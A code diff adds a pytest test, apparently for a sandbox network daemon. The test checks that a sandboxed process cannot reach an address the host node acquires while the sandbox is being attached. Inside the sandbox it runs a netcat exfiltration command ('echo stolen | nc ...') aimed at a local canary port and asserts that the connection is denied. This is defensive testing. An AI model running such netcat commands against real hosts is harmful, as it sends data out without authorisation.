@@ -5,6 +5,7 @@ test_sidecar.py and test_escapes_shared.py."""
 from __future__ import annotations
 
 import contextlib
+import functools
 import os
 import signal
 import socket
@@ -20,10 +21,10 @@ import pytest
 
 from lab import plan
 from lab.asker import Asker
-from lab.daemon import Daemon, Sandbox, attachment, running
+from lab.daemon import Answer, Daemon, Sandbox, attachment, running
 from lab.internet import Internet
 from lab.namespaces import Namespace
-from lab.processes import wait_until
+from lab.processes import check, wait_until
 from lab.sandgate import allowing
 from lab.sidecar import inside
 
@@ -74,6 +75,49 @@ def test_servers_see_the_sandboxs_address(internet: Internet, daemon: Daemon, bo
         assert sandbox.ask("DELETE").status == 204
         assert "sandgate" not in box.check("nft", "list", "ruleset")
         wait_until(lambda: threads_inside(daemon, box) == 0, "the thread's end")
+
+
+@pytest.mark.attack("N4", "connects to an address that the node gets while it is being attached", stopped_by="connect")
+def test_address_that_the_node_gets_meanwhile(internet: Internet, daemon: Daemon, box: Namespace) -> None:
+    """The daemon waits for a process to go, as it does for a container runtime's own."""
+    address, link = f"{plan.V4}.201", f"sgside-{os.getpid()}"
+    check("ip", "link", "add", link, "type", "veth", "peer", "name", "side", "netns", box.name)
+    server = socket.socket()
+    answers: list[Answer] = []
+    body = {
+        "id": "box",
+        "attachment": {"netns": f"/run/netns/{box.name}", "upstreamInside": True, "acceptSidePaths": True},
+        "networkPolicy": {"defaultAction": "allow"},
+    }
+    request = threading.Thread(target=lambda: answers.append(daemon.request("POST", "/v1/sandboxes", body)))
+    question = {"networkPolicy": body["networkPolicy"], "ip": address, "port": plan.CANARY_PORT}
+    try:
+        check("ip", "address", "add", "10.77.77.1/30", "dev", link)
+        check("ip", "link", "set", link, "up")
+        box.ip("address", "add", "10.77.77.2/30", "dev", "side")
+        box.ip("link", "set", "side", "up")
+        box.ip("route", "add", f"{address}/32", "via", "10.77.77.1")
+        with subprocess.Popen(box.command("sleep", "infinity"), stdin=subprocess.DEVNULL) as process:
+            request.start()
+            wait_until(lambda: daemon.request("GET", "/v1/sandboxes/box").status == 200, "the beginning")
+            check("ip", "address", "add", f"{address}/32", "dev", link)
+            explain = functools.partial(daemon.request, "POST", "/v1/policies/explain", question)
+            wait_until(lambda: explain().json["verdict"] == "deny", "the daemon to know the address")
+            process.kill()
+        request.join()
+        assert [answer.status for answer in answers] == [201], answers
+        server.bind((address, plan.CANARY_PORT))
+        server.listen()
+        server.setblocking(False)
+        sandbox = Sandbox(daemon, "box", f"/run/netns/{box.name}")
+        sandbox.run("/bin/sh", "-c", f"echo stolen | nc -w 2 {address} {plan.CANARY_PORT}")
+        with pytest.raises(BlockingIOError):
+            server.accept()
+        denied = [record for record in daemon.records(sandbox="box") if record["event"] == "connection.denied"]
+        assert [(record["ip"], record["reason"]) for record in denied] == [(address, "guard-range")], denied
+    finally:
+        server.close()
+        check("ip", "link", "delete", link)
 
 
 @contextlib.contextmanager
